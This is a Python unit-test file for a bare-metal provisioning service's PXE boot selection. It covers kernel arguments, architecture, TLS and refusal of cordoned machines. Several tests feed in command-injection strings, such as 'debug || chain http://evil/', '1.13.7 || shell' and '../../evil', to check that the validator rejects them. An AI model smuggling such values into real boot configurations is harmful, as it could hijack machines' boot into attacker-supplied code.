from dataclasses import replace

import pytest

from app.machine.boot import (
    AGENT_EXTENSIONS,
    Arch,
    BootRequest,
    BootSettings,
    DiskBoot,
    DiskMethod,
    FactoryBoot,
    HeldBack,
    LocalBoot,
    Refusal,
    boot_for,
)
from app.machine.errors import ScriptRefused
from app.machine.model import Acceptance, BootMode, Machine
from tests.unit.machine.pictures import GOING, ID, NOW, allocated, at_rest, lost, wiping, wish

SETTINGS = BootSettings("10.0.0.1")
REQUEST = BootRequest(ID, "52-54-00-00-00-01", "x86_64")
CONFIG = "talos.config=http://10.0.0.1:50042/config?u=${uuid}"
AGENT = "metal.provider.address=10.0.0.1:50042"


def answer(machine, request=REQUEST, inline=None, **settings):
    return boot_for(machine, request, replace(SETTINGS, **settings), inline)


def factory(machine, request=REQUEST, inline=None, **settings):
    found = answer(machine, request, inline, **settings)
    assert isinstance(found, FactoryBoot)
    return found


def test_cordoned_is_refused_in_these_words():
    assert answer(wish(allocated(installs=1), cordoned=True)) == Refusal("machine is cordoned")
    rejected = wish(at_rest(), cordoned=True, acceptance_status=Acceptance.REJECTED)
    assert answer(rejected) == Refusal("machine is cordoned")


def test_rejected_is_refused():
    assert isinstance(answer(wish(at_rest(), acceptance_status=Acceptance.REJECTED)), Refusal)


@pytest.mark.parametrize("method", DiskMethod)
def test_installed_machine_boots_its_disk_by_the_chosen_method(method):
    assert answer(allocated(installs=1), boot_from_disk_method=method) == DiskBoot(method)


def test_lost_record_boots_the_disk():
    assert isinstance(answer(lost()), DiskBoot)
    assert isinstance(answer(lost(wish(at_rest(), wipe_id="w2"))), DiskBoot)


@pytest.mark.parametrize(
    "machine",
    [
        Machine(id=ID, now=NOW),
        at_rest(),
        wiping(),
        wish(allocated(installs=1), wipe_id="w2"),
        wish(allocated(installs=1), acceptance_status=Acceptance.PENDING),
        wish(allocated(installs=1), meta=GOING),
        lost(wish(at_rest(), meta=GOING)),
        replace(allocated(installs=1), bmc_configuration=None),
    ],
)
def test_agent_is_booted_wherever_talos_may_not_run(machine):
    found = factory(machine)
    assert found.mode is BootMode.AGENT_PXE
    assert found.schematic.kernel_args == (CONFIG, AGENT, "console=tty0", "console=ttyS0")
    assert found.schematic.extensions == AGENT_EXTENSIONS
    assert found.talos_version == "v1.13.7"


def test_agent_extensions_are_those_of_agent_mode():
    assert len(AGENT_EXTENSIONS) == 10
    assert "siderolabs/metal-agent" in AGENT_EXTENSIONS
    assert all(name.startswith("siderolabs/") for name in AGENT_EXTENSIONS)


def test_agent_gets_its_options_and_the_machines_own_arguments():
    machine = wish(at_rest(), extra_kernel_args="  net.ifnames=0\tdebug\n ")
    found = factory(machine, agent_test_mode=True, agent_mode_talos_version="v1.14.0")
    assert found.schematic.kernel_args == (
        CONFIG,
        AGENT,
        "metal.provider.test.mode=1",
        "console=tty0",
        "console=ttyS0",
        "net.ifnames=0",
        "debug",
    )
    assert found.talos_version == "v1.14.0"


def test_agent_has_no_extensions_of_the_machine():
    machine = wish(at_rest(), extensions=("siderolabs/hello-world-service",))
    assert factory(machine).schematic.extensions == AGENT_EXTENSIONS


def test_talos_is_booted_as_the_cluster_wants_it():
    machine = wish(allocated(), extensions=("siderolabs/b", "siderolabs/a"), extra_kernel_args="debug")
    found = factory(machine, agent_test_mode=True)
    assert found.mode is BootMode.TALOS_PXE
    assert found.talos_version == "1.13.7"
    assert found.schematic.extensions == ("siderolabs/b", "siderolabs/a")
    assert found.schematic.kernel_args == (CONFIG, "console=tty0", "console=ttyS0", "debug")


@pytest.mark.parametrize(
    ("buildarch", "arch", "console"),
    [
        ("arm64", Arch.ARM64, "console=ttyAMA0"),
        ("x86_64", Arch.AMD64, "console=ttyS0"),
        ("i386", Arch.AMD64, "console=ttyS0"),
        ("", Arch.AMD64, "console=ttyS0"),
        ("arm64 || shell", Arch.AMD64, "console=ttyS0"),
    ],
)
def test_architecture_follows_buildarch(buildarch, arch, console):
    found = factory(at_rest(), BootRequest(ID, arch=buildarch))
    assert found.arch is arch
    assert console in found.schematic.kernel_args


def test_secure_boot_follows_the_option():
    assert factory(at_rest()).secure_boot is False
    assert factory(at_rest(), secure_boot_enabled=True).secure_boot is True


@pytest.mark.parametrize(
    ("buildarch", "arch", "console"), [("arm64", Arch.ARM64, "ttyAMA0"), ("i386", Arch.AMD64, "ttyS0")]
)
def test_agent_is_booted_from_local_assets_with_the_same_arguments(buildarch, arch, console):
    machine = wish(at_rest(), extra_kernel_args=" debug\tquiet ")
    found = answer(machine, BootRequest(ID, arch=buildarch), use_local_boot_assets=True, agent_test_mode=True)
    arguments = (CONFIG, AGENT, "metal.provider.test.mode=1", "console=tty0", f"console={console}", "debug", "quiet")
    assert found == LocalBoot(ID, BootMode.AGENT_PXE, arguments, arch)


def test_local_assets_are_for_agent_mode_alone():
    assert factory(allocated(), use_local_boot_assets=True).mode is BootMode.TALOS_PXE
    assert isinstance(answer(allocated(installs=1), use_local_boot_assets=True), DiskBoot)


def test_local_boot_refuses_dangerous_arguments_waits_with_tls_and_shows_none():
    with pytest.raises(ScriptRefused, match="extra_kernel_args"):
        answer(wish(at_rest(), extra_kernel_args="a ; b"), use_local_boot_assets=True)
    assert isinstance(answer(at_rest(), use_local_boot_assets=True, tls_enabled=True), HeldBack)
    found = answer(at_rest(), inline=INLINE, use_local_boot_assets=True, tls_enabled=True)
    assert f"talos.config.inline={INLINE}" in found.kernel_args
    assert INLINE not in repr(found)


@pytest.mark.parametrize(
    ("address", "config_host", "agent_address"),
    [
        ("10.0.0.1", "10.0.0.1", "10.0.0.1:50099"),
        ("metal.example.org", "metal.example.org", "http://metal.example.org:50099"),
        ("fd00::1", "[fd00::1]", "[fd00::1]:50099"),
    ],
)
def test_addresses_name_host_and_port(address, config_host, agent_address):
    arguments = factory(at_rest(), api_advertise_address=address, api_port=50099).schematic.kernel_args
    assert f"talos.config=http://{config_host}:50099/config?u=${{uuid}}" in arguments
    assert f"metal.provider.address={agent_address}" in arguments


@pytest.mark.parametrize(
    ("machine", "value"),
    [
        (wish(at_rest(), extra_kernel_args="debug ${next-server}"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="debug || chain http://evil/"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="debug && chain http://evil/"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="debug # rest"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="debug ; chain http://evil/"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="debug rest\\"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="a\x00b"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="a\x1b[2J"), "extra_kernel_args"),
        (wish(at_rest(), extra_kernel_args="caf\u00e9"), "extra_kernel_args"),
        (wish(allocated(), extensions=("siderolabs/a\nb",)), "extension"),
        (wish(allocated(), extensions=("siderolabs/${a}",)), "extension"),
        (wish(allocated(), cluster_talos_version="1.13.7\nshell"), "Talos version"),
        (wish(allocated(), cluster_talos_version="1.13.7 || shell"), "Talos version"),
        (wish(allocated(), cluster_talos_version="../../evil"), "Talos version"),
        (wish(allocated(), cluster_talos_version="${x}"), "Talos version"),
    ],
)
def test_dangerous_values_are_refused_by_name(machine, value):
    with pytest.raises(ScriptRefused, match=value) as refused:
        answer(machine)
    assert ID in str(refused.value)
    assert str(refused.value).isprintable()


def test_line_end_in_extra_arguments_only_separates_words():
    assert factory(wish(at_rest(), extra_kernel_args="a\r\nb")).schematic.kernel_args[-2:] == ("a", "b")


INLINE = "KLUv/QBYAQAA=="


def test_agent_with_tls_gets_its_arguments_in_their_order():
    boot = factory(
        wish(at_rest(), extra_kernel_args="a=b"),
        inline=INLINE,
        tls_enabled=True,
        tls_agent_skip_verify=True,
        agent_test_mode=True,
    )
    assert boot.schematic.kernel_args == (
        CONFIG,
        f"talos.config.inline={INLINE}",
        "metal.provider.address=https://10.0.0.1:50043",
        "metal.provider.test.mode=1",
        "metal.provider.tls.skip.verify=1",
        "console=tty0",
        "console=ttyS0",
        "a=b",
    )


def test_talos_with_tls_gets_the_configuration_inline_and_nothing_for_an_agent():
    boot = factory(allocated(), inline=INLINE, tls_enabled=True, tls_agent_skip_verify=True)
    assert boot.schematic.kernel_args == (
        CONFIG,
        f"talos.config.inline={INLINE}",
        "console=tty0",
        "console=ttyS0",
    )


@pytest.mark.parametrize(
    ("address", "agent_address"),
    [("provider.lan", "https://provider.lan:7"), ("2001:db8::1", "https://[2001:db8::1]:7")],
)
def test_address_of_agents_with_tls_always_has_its_scheme(address, agent_address):
    boot = factory(at_rest(), inline=INLINE, tls_enabled=True, tls_api_port=7, api_advertise_address=address)
    assert f"metal.provider.address={agent_address}" in boot.schematic.kernel_args
    assert "metal.provider.tls.skip.verify=1" not in boot.schematic.kernel_args


@pytest.mark.parametrize("machine", [at_rest(), allocated(), Machine(id=ID, now=NOW)])
def test_boot_with_tls_waits_for_the_configuration(machine):
    assert isinstance(answer(machine, tls_enabled=True), HeldBack)


def test_machine_that_boots_its_disk_waits_for_nothing():
    assert isinstance(answer(allocated(installs=1), tls_enabled=True), DiskBoot)
    assert isinstance(answer(wish(at_rest(), cordoned=True), tls_enabled=True), Refusal)


def test_options_of_tls_do_nothing_without_it():
    boot = factory(at_rest(), inline=INLINE, tls_agent_skip_verify=True)
    assert boot.schematic.kernel_args == (CONFIG, AGENT, "console=tty0", "console=ttyS0")


def test_arguments_are_not_shown():
    assert INLINE not in repr(factory(at_rest(), inline=INLINE, tls_enabled=True))
